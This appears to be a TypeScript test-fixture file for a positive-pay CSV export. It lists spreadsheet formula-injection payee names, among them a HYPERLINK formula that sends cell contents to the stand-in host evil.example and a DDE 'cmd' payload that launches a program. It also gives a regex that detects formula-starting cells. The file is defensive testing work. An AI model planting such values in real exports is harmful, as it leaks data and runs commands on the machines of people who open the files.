// Inputs of issue 22 shared by several tests.

/** The payee names of issue 22 that used to reach the positive pay CSV as live formulas. */
export const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-1+1',
];

/**
 * What a spreadsheet evaluates at the start of a cell (OWASP "CSV Injection": =, +, -, @, tab, CR;
 * NUL as ASVS adds), with the full-width signs. Typed in here, not imported from the writer.
 */
export const FORMULA_START = /^[=+\-@\t\r\0\uff1d\uff0b\uff0d\uff20]/;
